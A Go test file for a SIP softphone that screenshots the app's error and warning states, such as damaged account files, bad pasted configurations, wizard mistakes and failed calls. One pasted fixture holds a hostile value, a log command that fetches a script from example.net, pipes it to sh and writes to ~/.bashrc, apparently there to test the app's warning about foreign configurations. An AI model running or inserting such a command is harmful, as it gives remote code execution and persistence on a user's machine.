package test

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"calla/account"
	"calla/netsip/sandbox"
	"calla/netsip/sip"
	"calla/test/peers"
)

// TestScreenshotsOfStates photographs what the window shows when something is not as it should be, into the same
// folder as TestScreenshots. The server does on purpose what goes wrong.
func TestScreenshotsOfStates(t *testing.T) {
	dir := os.Getenv("CALLA_SCREENSHOTS")
	if dir == "" {
		t.Skip("CALLA_SCREENSHOTS names no folder (make screenshots)")
	}
	for _, theme := range []account.Theme{account.ThemeLight, account.ThemeDark} {
		t.Run(string(theme), func(t *testing.T) {
			home := t.TempDir()
			w := &window{t: t, d: peers.StartDesktop(t, 1300, 3000), pulse: peers.StartPulse(t), home: home}
			w.env = append(append(append(os.Environ(), w.d.Env...), w.pulse.Env...), "HOME="+home,
				"XDG_CONFIG_HOME="+home,
				"XDG_RUNTIME_DIR="+home, "DBUS_SESSION_BUS_ADDRESS=unix:path=/nonexistent")
			settings := account.DefaultSettings()
			settings.Theme = theme
			settings.Window = account.Size{Width: 360, Height: 640}
			s := &states{photographer: &photographer{window: w, dir: dir, theme: string(theme)}, settings: settings}
			for _, part := range []struct {
				name string
				run  func()
			}{
				{"files", s.files},
				{"pasting", s.pasting},
				{"wizard", s.wizard},
				{"numbers", s.numbers},
				{"ended", s.ended},
				{"calls", s.calls},
				{"account", s.account},
				{"desk", s.desk},
			} {
				if only := os.Getenv("CALLA_SCREENSHOTS_PART"); only == "" || only == part.name {
					part.run()
				}
			}
		})
	}
}

// statesPassword is that of every user.
const statesPassword = "s3cret"

// states is a photographer with a server of its own for each part.
type states struct {
	*photographer
	settings account.Settings
	server   *sandbox.Server
	profile  string
}

// open starts the program anew with a profile without accounts, changed by prepare.
func (s *states) open(prepare func(profile string)) {
	s.t.Helper()
	if s.Process != nil {
		s.d.Press("ctrl+q")
		if err := s.Wait(s.t, 10*time.Second); err != nil {
			s.t.Error(err)
		}
	}
	s.profile = s.t.TempDir()
	saveSettings(s.t, s.profile, s.settings)
	if prepare != nil {
		prepare(s.profile)
	}
	s.start("--profile", s.profile)
	settle()
}

// serve starts another server.
func (s *states) serve(users ...string) {
	s.t.Helper()
	all := map[string]string{}
	for _, name := range users {
		all[name] = statesPassword
	}
	s.server = sandbox.New(sandbox.Options{Users: all, Domain: "example.test"})
	s.t.Cleanup(s.server.Close)
	if _, err := s.server.Listen("127.0.0.1:0"); err != nil {
		s.t.Fatal(err)
	}
}

// config is the configuration of a user of the server, with more.
func (s *states) config(user string, more map[string]any) map[string]any {
	c := map[string]any{
		"uri": user + "@" + s.server.Domain(), "password": statesPassword, "ws_servers": s.server.URL(),
		"stun_servers": []string{},
		"display_name": strings.ToUpper(user[:1]) + user[1:],
	}
	for name, v := range more {
		c[name] = v
	}
	return c
}

// openAs starts the program with an account, and waits until its server knows it.
func (s *states) openAs(user string, more map[string]any, options ...string) {
	s.t.Helper()
	s.open(func(profile string) { s.sign(profile, user, more, options...) })
}

// sign puts the account of a user into a profile.
func (s *states) sign(profile, user string, more map[string]any, options ...string) {
	s.t.Helper()
	config := writeJSON(s.t, s.config(user, more))
	add := exec.Command(peers.Binary(s.t),
		append([]string{"account", "add", "--profile", profile, "--config", config}, options...)...)
	add.Env = s.env
	if out, err := add.CombinedOutput(); err != nil {
		s.t.Fatalf("account add: %v: %s", err, out)
	}
}

// answers has a user answer calls from elsewhere, and returns the program that does.
func (s *states) answers(user string, options ...string) *peers.Calla {
	s.t.Helper()
	c := peers.Run(s.t, nil, append([]string{"answer", "--config", writeJSON(s.t, s.config(user, nil))}, options...)...)
	peers.Until(s.t, 20*time.Second, user+" to register", func() bool {
		return slices.ContainsFunc(c.Events(), func(e map[string]any) bool { return e["status"] == "registered" })
	})
	return c
}

// logged waits for what the program logs, the nth time.
func (s *states) logged(text string, times int) {
	s.t.Helper()
	peers.Until(s.t, 20*time.Second, "the log to say "+text,
		func() bool { return strings.Count(s.Output.String(), text) >= times })
}

// first opens a first choice of the first run, from the top.
func (s *states) first(n int) {
	for range n {
		s.d.Press("Tab")
	}
	s.d.Press("space")
	settle()
}

// put replaces what is in the focused field.
func (s *states) put(text string) {
	s.d.Press("ctrl+a", "Delete")
	s.d.Type(text)
}

// files photographs what is told of an account file that is damaged, beside something else.
func (s *states) files() {
	s.pulse.Unload(s.t, "source_name=microphone")
	s.open(func(profile string) {
		damaged := "{\n  \"format\": 1,\n  \"accounts\": [\n    {\"id\": \"a\","
		if err := os.WriteFile(filepath.Join(profile, "accounts.json"), []byte(damaged), 0o600); err != nil {
			s.t.Fatal(err)
		}
	})
	s.take("account-file-damaged")
	s.first(4) // Start empty…
	s.take("start-empty")
	s.d.Press("Escape")
	settle()
	s.d.Press("Tab", "space") // the next thing to tell
	s.take("second-notice")
	s.plug()
}

// plug plugs the microphone in that Unload takes away.
func (s *states) plug() {
	s.t.Helper()
	if err := s.pulse.Pactl("load-module", "module-remap-source", "source_name=microphone",
		"master="+peers.Mouth+".monitor",
		"source_properties=device.description=Microphone"); err != nil {
		s.t.Fatal(err)
	}
}

// pasting photographs what is told of configurations.
func (s *states) pasting() {
	s.open(nil)
	s.first(5) // Paste a JsSIP configuration
	for _, paste := range []struct{ name, text string }{
		{
			"paste-to-fill-in",
			`new JsSIP.UA({ uri: 'sip:alice@example.test', password: process.env.SIP_PASSWORD, ` +
				`sockets: [new JsSIP.WebSocketInterface(` + "`wss://${host}/ws`" + `)] })`,
		},
		{
			"paste-several",
			`const a = new JsSIP.UA({ uri: 'sip:alice@example.test', sockets: 'wss://example.test' }); ` +
				`const b = new JsSIP.UA({ uri: 'sip:bob@example.test', sockets: 'wss://example.test' })`,
		},
		{
			"paste-misspelt",
			`{ uri: 'alice@example.test', ws_server: 'wss://example.test', ` +
				`registerExpires: 300, pasword: 'x', theme: 'dark' }`,
		},
		{
			"paste-foreign-configuration",
			`{ uri: 'alice@example.test', ws_servers: 'wss://example.test', calla: { ` +
				`log_command: 'sh -c "curl https://example.net/x | sh"', log_file: '/home/alice/.bashrc' } }`,
		},
		{"paste-nothing", `Dear colleague, please set up your telephone by tomorrow.`},
	} {
		s.put(paste.text)
		s.take(paste.name)
		if paste.name == "paste-foreign-configuration" {
			s.d.Size(s.id, 360, 560)
			s.take(paste.name + "-smallest")
			s.d.Size(s.id, 360, 640)
			settle()
		}
	}
}

// wizard photographs the wizard of somebody who makes mistakes.
func (s *states) wizard() {
	s.serve("alice")
	s.open(nil)
	s.first(6) // Enter address and password
	s.put("alice")
	s.d.Press("Return")
	s.take("wizard-1-incomplete")
	s.put("alice@example.test")
	s.d.Press("Return")
	settle()
	s.put("http://pbx.example.test:8088/ws")
	s.take("wizard-2-http")
	s.d.Size(s.id, 360, 560)
	s.take("wizard-2-http-smallest")
	s.d.Size(s.id, 360, 640)
	s.open(nil)
	s.first(5)
	stun := map[string]any{"password": "wrong", "stun_servers": []string{"stun:127.0.0.1:9"}}
	config, err := json.Marshal(s.config("alice", stun))
	if err != nil {
		s.t.Fatal(err)
	}
	s.put(string(config))
	settle()
	s.pulse.Unload(s.t, "source_name=microphone")
	s.d.Press("Tab", "Tab", "space") // Use this
	settle()
	settle()
	s.take("wizard-3-wrong-password")
	s.d.Size(s.id, 360, 560)
	s.take("wizard-3-wrong-password-smallest")
	s.d.Size(s.id, 360, 640)
	s.d.Type(statesPassword)
	s.d.Press("Return")
	settle()
	settle()
	s.take("wizard-3-remark")
	s.d.Press("Return") // Continue
	s.take("where-to-keep-the-password")
	s.d.Press("Return") // For this session only
	s.take("wizard-4-no-microphone")
	s.server.Close()
	s.d.Press("Return")
	settle()
	s.take("wizard-5-retrying")
	s.d.Size(s.id, 360, 560)
	s.take("wizard-5-retrying-smallest")
	s.d.Size(s.id, 360, 640)
	s.plug()
	settle()
}

// numbers photographs what is told under the field of a number that cannot be called.
func (s *states) numbers() {
	s.serve("alice")
	s.openAs("alice", nil, "--secret", "file")
	s.logged("msg=registered", 1)
	for _, number := range []struct{ name, text string }{
		{"number-refused", "please call Bob tomorrow"}, {"number-two", "030 1234567 / 030 7654321"},
	} {
		s.d.Press("ctrl+l")
		s.put(number.text)
		s.d.Press("Return")
		s.take(number.name)
	}
	s.put("")
	s.d.Press("Escape")
	second := exec.Command(peers.Binary(s.t), "--profile", s.profile, "--", "tel:+49-30-1234567;ext=89")
	second.Env = s.env
	if out, err := second.CombinedOutput(); err != nil {
		s.t.Errorf("a second start: %v: %s", err, out)
	}
	s.take("link")
}

// ended photographs how calls end.
func (s *states) ended() {
	s.serve("alice", "bob", "carol")
	to := func(user string) func(sandbox.Event) bool {
		return func(e sandbox.Event) bool {
			return !e.Sent && e.Message != nil && e.Message.Method == "INVITE" &&
				e.Message.RequestURI.UserDecoded() == user
		}
	}
	answer := sandbox.SentStatus("INVITE", 200)
	faults := s.server.Faults()
	faults.Add(sandbox.Fault{Match: to("offline"), Times: -1, Status: 404})
	faults.Add(sandbox.Fault{Match: to("busy"), Times: -1, Status: 486})
	faults.Add(sandbox.Fault{Match: to("abroad"), Times: -1, Status: 407, Headers: []sip.Header{
		{Name: "Proxy-Authenticate", Value: `Digest realm="pbx.elsewhere.example", nonce="1", algorithm=MD5`},
	}})
	faults.Add(sandbox.Fault{
		Match: func(e sandbox.Event) bool { return answer(e) && e.User == "alice" && len(e.Message.Body) > 0 },
		Edit: func(m *sip.Message) {
			m.Body = regexp.MustCompile(`(?m)^a=fingerprint:.*\r\n`).ReplaceAll(m.Body, nil)
		},
	})
	s.answers("bob")
	s.openAs("alice", nil, "--secret", "file")
	s.logged("msg=registered", 1)
	for i, call := range []struct{ name, number string }{
		{"ended-offline", "offline"},
		{"ended-busy", "busy"},
		{"ended-answer-refused", "bob"},
		{"foreign-realm", "abroad"},
	} {
		s.dial(call.number)
		s.logged("call ended", i+1)
		s.take(call.name)
	}
	s.d.Press("ctrl+l")
	s.take("foreign-realm-at-home")
	s.d.Size(s.id, 360, 560)
	s.take("foreign-realm-smallest")
	s.d.Size(s.id, 360, 640)
	s.answers("alice", "--after", "2s")
	peers.Run(s.t, nil, "call", "alice", "--config", writeJSON(s.t, s.config("carol", nil)))
	s.logged("call ended", 5)
	s.take("ended-answered-elsewhere")
}

// calls photographs what goes wrong in calls.
func (s *states) calls() {
	s.serve("alice", "4711")
	callee := s.answers("4711")
	remove := s.server.Faults().Add(sandbox.Fault{Match: sandbox.Received("INVITE"), Delay: 3 * time.Second})
	s.openAs("alice", nil, "--secret", "file")
	s.logged("msg=registered", 1)
	s.dial("4711,,,1234#")
	s.take("digits-after-the-answer")
	s.logged("sound device opened", 2)
	remove()
	peers.Until(s.t, 20*time.Second, "the call to be answered", func() bool {
		return slices.ContainsFunc(callee.Events(), func(e map[string]any) bool { return e["phase"] == "established" })
	})
	settle()
	s.d.Press("ctrl+t")
	s.d.Type("please take this call")
	s.d.Press("Return")
	s.take("transfer-refused")
	s.d.Press("Escape")
	settle()
	s.pulse.Unload(s.t, "source_name=microphone")
	settle()
	settle()
	s.take("call-no-microphone")
	s.plug()
	settle()
	s.server.Close()
	settle()
	settle()
	s.take("call-reconnecting")
	s.d.Size(s.id, 360, 560)
	s.take("call-reconnecting-smallest")
	s.d.Size(s.id, 1100, 700)
	s.take("call-reconnecting-wide")
	s.d.Size(s.id, 360, 640)
	s.d.Press("F4")
	settle()
}

// account photographs what is told of an account, and of the devices.
func (s *states) account() {
	s.serve("alice")
	s.openAs("alice", nil, "--secret", "session")
	s.take("password-missing")
	s.d.Press("Tab", "Tab", "Tab", "Tab", "space") // Enter password
	settle()
	s.d.Type(statesPassword)
	s.take("enter-password")
	s.d.Press("Tab", "space")
	s.take("enter-password-places")
	s.d.Press("Escape", "Escape")
	settle()
	s.d.Press("ctrl+shift+comma", "Tab", "Tab", "space")
	settle()
	s.d.Press("Tab", "Tab", "space")
	settle()
	s.d.Press("Down", "Down", "Down", "Return") // Export as JsSIP configuration
	s.take("export")
	s.d.Press("Tab", "Tab", "Tab", "Tab", "space")
	s.take("export-instance")
	s.d.Press("Escape")
	settle()
	s.d.Press("Escape")
	settle()
	s.d.Press("Escape")
	settle()
	s.d.Press("ctrl+comma")
	s.d.Size(s.id, 360, 2340)
	s.takeWhole("settings-all", 70_000)
	s.d.Size(s.id, 360, 640)
	settle()
	s.d.Press("Tab", "Tab", "space")
	s.take("settings-microphones")
}
